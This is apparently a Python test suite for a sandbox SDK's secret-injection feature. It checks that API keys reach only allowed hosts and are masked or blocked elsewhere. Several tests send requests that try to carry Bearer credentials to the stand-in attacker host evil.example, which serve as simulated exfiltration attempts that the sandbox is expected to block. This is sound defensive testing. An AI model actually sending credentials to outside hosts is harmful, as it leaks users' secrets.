"""The reference's examples (sdk-typescript-secrets.md) in the Python SDK's names, run in
real sandboxes against the fake internet; the same scenarios and checks as the TypeScript
package's examples.test.ts."""

import asyncio
import os

from standin import Sandbox

from fake_internet import (
    VALUES,
    assert_blocked,
    assert_never_got_a_value,
    assert_substituted,
    received,
    request,
)

IMAGE = "registry.test:5000/python"


def test_typical_flow():
    async def main():
        async with Sandbox.builder("agent").image(IMAGE).secret(
            lambda s: s.env("OPENAI_API_KEY")  # guest sees $MSB_OPENAI_API_KEY
            .value(os.environ["OPENAI_API_KEY"])
            .allow_host("api.openai.com")  # real value only reaches this host
        ).create() as sb:
            out = await sb.exec("python", ["agent.py"])
            assert out.code == 0, out.stderr_text()
            assert out.stdout_text() == "200"
            assert_substituted("/v1/chat/completions", "api.openai.com", VALUES["OPENAI_API_KEY"])
            env = await sb.exec("sh", ["-c", 'printf %s "$OPENAI_API_KEY"'])
            assert env.stdout_text() == "$MSB_OPENAI_API_KEY"
            assert_blocked(await request(sb, "evil.example", "Authorization: Bearer $OPENAI_API_KEY"))
            assert_never_got_a_value("evil.example")

    asyncio.run(main())


def test_allow_host_each_allowed_host_gets_the_key():
    async def main():
        sb = await (
            Sandbox.builder("payments")
            .image(IMAGE)
            .secret(
                lambda s: s.env("STRIPE_KEY")
                .value(os.environ["STRIPE_KEY"])
                .allow_host("api.stripe.com")
                .allow_host("files.stripe.com")
            )
            .create()
        )
        async with sb:
            for host in ("api.stripe.com", "files.stripe.com"):
                status, path = await request(sb, host, "Authorization: Bearer $STRIPE_KEY")
                assert status == "200"
                assert_substituted(path, host, VALUES["STRIPE_KEY"])
            assert_blocked(await request(sb, "api.openai.com", "Authorization: Bearer $STRIPE_KEY"))

    asyncio.run(main())


def test_on_violation_passthrough_and_block_and_log():
    async def main():
        loop = asyncio.get_running_loop()
        logged = loop.create_future()

        def on_event(e):
            if e["kind"] == "secret-violation":
                loop.call_soon_threadsafe(lambda: logged.done() or logged.set_result(e))

        async with (
            Sandbox.builder("agent")
            .image(IMAGE)
            .secret(
                lambda s: s.env("API_KEY")
                .value(os.environ["API_KEY"])
                .allow_host("api.github.com")
                .on_violation(lambda v: v.block_and_log().passthrough_host("api.anthropic.com"))
            )
            .network(lambda n: n.on_event(on_event))
            .create()
        ) as sb:
            status, path = await request(sb, "api.github.com", "Authorization: token $API_KEY")
            assert status == "200"
            assert_substituted(path, "api.github.com", VALUES["API_KEY"])
            status, path = await request(sb, "api.anthropic.com", "X-Trace: $API_KEY")
            assert status == "200"
            [got] = received(path)
            assert got.sni == "api.anthropic.com"
            assert "x-trace: $MSB_API_KEY" in got.text, got.text
            assert_never_got_a_value("api.anthropic.com")
            assert_blocked(await request(sb, "evil.example", "Authorization: Bearer $API_KEY"))
            event = await asyncio.wait_for(logged, 10)
            assert event["action"] == "block-and-log"
            assert event["secret"] == "API_KEY"
            assert event["sni"] == "evil.example"
            assert VALUES["API_KEY"] not in str(event)

    asyncio.run(main())


def test_sandbox_secret_pattern_headers_on_query_off():
    async def main():
        async with (
            Sandbox.builder("payments-worker")
            .image(IMAGE)
            .secret(
                lambda s: s.env("STRIPE_KEY")
                .value(os.environ["STRIPE_KEY"])
                .allow_host("api.stripe.com")
                .allow_host_pattern("*.stripe.com")
                .inject_headers(True)
                .inject_query(False)
            )
            .create()
        ) as sb:
            for host in ("api.stripe.com", "files.stripe.com"):
                status, path = await request(sb, host, "Authorization: Bearer $STRIPE_KEY")
                assert status == "200"
                assert_substituted(path, host, VALUES["STRIPE_KEY"])
            status, path = await request(sb, "api.stripe.com", "X-Probe: 1", query="key=$STRIPE_KEY")
            assert status == "200"
            [got] = received(path)
            assert "?key=$MSB_STRIPE_KEY" in got.text, got.text
            assert VALUES["STRIPE_KEY"] not in got.text

    asyncio.run(main())


def test_secret_env_shorthand():
    async def main():
        async with (
            Sandbox.builder("agent")
            .image(IMAGE)
            .secret_env("OPENAI_API_KEY", os.environ["OPENAI_API_KEY"], "api.openai.com")
            .create()
        ) as sb:
            status, path = await request(sb, "api.openai.com", "Authorization: Bearer $OPENAI_API_KEY")
            assert status == "200"
            assert_substituted(path, "api.openai.com", VALUES["OPENAI_API_KEY"])
            assert_blocked(await request(sb, "evil.example", "Authorization: Bearer $OPENAI_API_KEY"))

    asyncio.run(main())


def test_network_secret():
    async def main():
        async with (
            Sandbox.builder("agent")
            .image(IMAGE)
            .network(
                lambda n: n.secret(
                    lambda s: s.env("OPENAI_API_KEY")
                    .value(os.environ["OPENAI_API_KEY"])
                    .allow_host("api.openai.com")
                )
            )
            .create()
        ) as sb:
            status, path = await request(sb, "api.openai.com", "Authorization: Bearer $OPENAI_API_KEY")
            assert status == "200"
            assert_substituted(path, "api.openai.com", VALUES["OPENAI_API_KEY"])
            assert_blocked(await request(sb, "api.github.com", "Authorization: Bearer $OPENAI_API_KEY"))

    asyncio.run(main())


def test_on_secret_violation_block_and_log_keeps_running():
    async def main():
        async with (
            Sandbox.builder("agent")
            .image(IMAGE)
            .network(
                lambda n: n.secret_env(
                    "OPENAI_API_KEY", os.environ["OPENAI_API_KEY"], "api.openai.com"
                ).on_secret_violation(lambda v: v.block_and_log())
            )
            .create()
        ) as sb:
            assert_blocked(await request(sb, "evil.example", "Authorization: Bearer $OPENAI_API_KEY"))
            status, path = await request(sb, "api.openai.com", "Authorization: Bearer $OPENAI_API_KEY")
            assert status == "200"
            assert_substituted(path, "api.openai.com", VALUES["OPENAI_API_KEY"])
            assert sb.terminated_by_violation is False

    asyncio.run(main())
